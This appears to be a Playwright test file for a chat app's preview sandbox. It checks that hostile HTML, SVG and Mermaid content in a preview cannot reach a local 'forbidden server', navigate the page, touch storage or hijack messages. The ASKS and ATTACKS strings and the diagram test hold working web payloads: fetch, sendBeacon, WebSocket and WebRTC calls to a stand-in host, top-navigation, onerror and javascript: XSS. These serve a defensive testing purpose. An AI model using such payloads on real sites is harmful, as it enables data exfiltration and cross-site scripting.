"""Hostile code in a preview: it reaches no server, no other page and nothing of the chat."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, expect

from tests.browser.chat_page import Chat
from tests.browser.chromium import executable
from tests.browser.conftest import ARGUMENTS
from tests.browser.forbidden_server import ForbiddenServer
from tests.browser.page_errors import PageErrors
from tests.browser.preview import code, frame_in, shows
from tests.browser.wait import until

# Everything that asks another server for something as soon as it is read.
ASKS = """
<img src="http://{there}/img"><link rel="preconnect" href="http://{there}"><link rel="stylesheet" href="http://{there}/css">
<link rel="prefetch" href="http://{there}/prefetch"><iframe src="http://{there}/frame"></iframe>
<style>@import "http://{there}/import"; body {{ background: url(http://{there}/background) }}</style>
<svg><image href="http://{there}/image"/></svg><video src="http://{there}/video"></video>
<object data="http://{there}/object"></object><script src="http://{there}/script"></script>
<a id="link" href="http://{there}/link" ping="http://{there}/ping" target="_top">A link</a>
<form id="form" method="post" action="http://{there}/form"></form>
"""

ATTACKS = """
<script>
  const tries = {{
    dialogs: () => (alert("a"), confirm("b"), prompt("c"), print()),
    top: () => (top.location = "http://{there}/top"),
    open: () => window.open("http://{there}/open"),
    form: () => form.submit(),
    link: () => link.click(),
    parent: () => (parent.document.title = "mine"),
    storage: () => localStorage.setItem("x", "y"),
    cookies: () => (document.cookie = "x=y"),
    fetch: () => fetch("http://{there}/fetch").catch(() => undefined),
    own: () => fetch("/account/").catch(() => undefined),
    connect: () => document.head.append(
      Object.assign(document.createElement("link"), {{ rel: "preconnect", href: "http://{there}" }}),
    ),
    beacon: () => navigator.sendBeacon("http://{there}/beacon", "x"),
    socket: () => new WebSocket("ws://{there}/socket"),
    events: () => new EventSource("http://{there}/events"),
    worker: () => new Worker(URL.createObjectURL(new Blob(["fetch('http://{there}/worker')"]))),
    peer: () => {{
      const peer = new RTCPeerConnection({{ iceServers: [{{ urls: "stun:{there}" }}] }});
      peer.createDataChannel("x");
      peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    }},
    spam: () => {{ for (let n = 0; n < 1000; n++) parent.postMessage({{ failed: "spam", escape: true }}, "*"); }},
    port: () => {{ MessagePort.prototype.postMessage = function () {{ window.port = this; }}; }},
    size: () => {{ for (let n = 0; n < 50_000; n++) document.body.append(document.createElement("b")); }},
  }};
  for (const name of Object.keys(tries).filter((name) => !self.skipped?.includes(name))) {{
    try {{ tries[name](); }} catch {{ /* the next one */ }}
  }}
  document.body.append(Object.assign(document.createElement("p"), {{ id: "tried", textContent: "Tried" }}));
</script>
"""

BODY_AFTER_MESSAGES = "new Promise((done) => setTimeout(() => done(document.body.textContent.trim())))"

REFUSED = "Content Security Policy|sandbox|Unsafe attempt|Refused|Blocked|Ignored call|Failed to load|WebSocket"


@pytest.fixture
def forbidden_server() -> Iterator[ForbiddenServer]:
    server = ForbiddenServer()
    yield server
    server.close()


def test_without_the_policy_the_attacks_arrive(chat, forbidden_server):
    """The other tests would notice."""
    chat.page_errors.expects(f"{forbidden_server.address}|{REFUSED}|Failed to fetch")
    forbidden_server.page = "<script>skipped = ['dialogs', 'top', 'open', 'form', 'link']</script>"
    forbidden_server.page += (ASKS + ATTACKS).format(there=forbidden_server.address)
    tab = chat.browser.new_page()
    tab.goto(f"http://{forbidden_server.address}/page", wait_until="commit")

    ways = {"datagram", "/img", "/css", "/frame", "/video", "/script", "/fetch", "/beacon", "/socket", "/events"}
    until(chat, lambda: ways <= set(forbidden_server.arrived))
    tab.close()


@pytest.mark.parametrize("language", ["html", "svg"])
def test_a_hostile_page_reaches_nobody_and_the_chat_goes_on(chat, forbidden_server, language):
    chat.page_errors.expects(f"{forbidden_server.address}|{REFUSED}")
    source = (ASKS + ATTACKS).format(there=forbidden_server.address)
    panel = shows(chat, language, f"<svg></svg>{source}" if language == "svg" else source)
    page, tabs = frame_in(panel), len(chat.browser.pages)
    expect(page.get_by_text("A link")).to_be_visible()
    page.get_by_text("A link").click()
    expect(panel.get_by_role("status")).to_contain_text("Files from other sites aren't loaded.")
    expect(page.locator("#tried")).to_have_count(0)

    panel.get_by_role("button", name="Run scripts").click()
    expect(page.locator("#tried")).to_have_text("Tried")
    page.get_by_text("A link").focus()
    chat.page.keyboard.press("Escape")  # now the page has the port
    page.locator("body").evaluate("() => delete MessagePort.prototype.postMessage")
    assert page.locator("body").evaluate("() => document.referrer") == ""
    chat.asks("[[say Still there.]]").wait_for_text("Still there.")
    expect(panel.get_by_role("status")).to_have_text("Scripts are on, without network access.")
    assert chat.page.title() != "mine"
    assert forbidden_server.arrived == []
    assert len(chat.browser.pages) == tabs
    assert chat.page.evaluate("localStorage.getItem('x')") is None


def test_a_page_cannot_navigate_away(chat, forbidden_server):
    chat.page_errors.expects(f"{forbidden_server.address}|{REFUSED}")
    panel = shows(chat, "html", f"<p>Here</p><script>location = 'http://{forbidden_server.address}/'</script>")
    expect(frame_in(panel).get_by_text("Here")).to_be_visible()
    panel.get_by_role("button", name="Run scripts").click()
    expect(frame_in(panel).get_by_text("Here")).to_have_count(0)

    chat.asks("[[say Still there.]]").wait_for_text("Still there.")
    assert forbidden_server.arrived == []


def test_the_addresses_of_frames_show_nothing_in_a_tab_of_their_own(chat):
    for kind in ("page", "scripts", "diagram"):
        tab = chat.in_another_tab(f"/preview/{kind}/")
        tab.page.evaluate("postMessage({ source: '<p>Mine</p>', language: 'html' }, '*', [new MessageChannel().port1])")
        assert (
            tab.page.evaluate("new Promise((done) => setTimeout(() => done(document.body.textContent.trim())))") == ""
        )
        assert tab.page.evaluate("origin") == "null"


def test_a_page_in_a_tab_of_its_own_has_no_more_rights(chat, forbidden_server):
    chat.page_errors.expects(f"{forbidden_server.address}|{REFUSED}")
    source = (ASKS + ATTACKS).format(there=forbidden_server.address)
    chat.asks(code("html", source)).wait_for_state("complete")
    menu = str(chat.answer.article.locator("[data-menu]").get_attribute("href"))
    tab = chat.in_another_tab(menu)
    with tab.page.expect_popup() as opened:
        tab.page.get_by_role("link", name="Preview 1: HTML").click()
    expect(opened.value.get_by_text("A link")).to_be_visible()

    expect(opened.value.locator("#tried")).to_have_count(0)
    assert forbidden_server.arrived == []


@pytest.fixture
def isolated(browser: Browser, site, standin, person, all_page_errors) -> Iterator[Chat]:
    """A Chromium as on desktops, where a sandboxed frame has a process of its own. The tests' own one shares them."""
    arguments = [*(each for each in ARGUMENTS if each != "--process-per-site"), "--site-per-process"]
    own = browser.browser_type.launch(executable_path=executable(), args=arguments)
    context = own.new_context(base_url=site.url)
    all_page_errors.append(PageErrors(context, site_url=site.url, openrouter_url=standin.url))
    chat = Chat(context.new_page(), standin=standin, page_errors=all_page_errors[-1])
    chat.is_signed_in(person)
    chat.visits("/")
    yield chat
    own.close()


def test_an_endless_loop_stops_only_its_own_page(isolated):
    panel = shows(isolated, "html", "<p>Here</p><script>setTimeout(() => { for (;;); })</script>")
    expect(frame_in(panel).get_by_text("Here")).to_be_visible()
    panel.get_by_role("button", name="Run scripts").click()

    isolated.asks("[[say Still there.]]").wait_for_text("Still there.")
    panel.get_by_role("button", name="Stop scripts").click()
    expect(frame_in(panel).get_by_text("Here")).to_be_visible()


def test_a_hostile_diagram_runs_nothing(chat, forbidden_server):
    chat.page_errors.expects(f"{forbidden_server.address}|{REFUSED}")
    there = f"http://{forbidden_server.address}"
    source = f"""%%{{init: {{"securityLevel": "loose", "themeCSS": "* {{ background: url({there}/css) }}"}}}}%%
flowchart LR
  a["<img src='{there}/img' onerror='document.body.innerHTML = 0'>"] --> b[Bread]
  click b href "javascript:document.body.innerHTML=0"
  click a call alert()"""
    panel = shows(chat, "mermaid", source)
    bread = frame_in(panel).get_by_text("Bread").first
    expect(bread).to_be_visible()
    bread.click()

    expect(bread).to_be_visible()
    assert forbidden_server.arrived == []
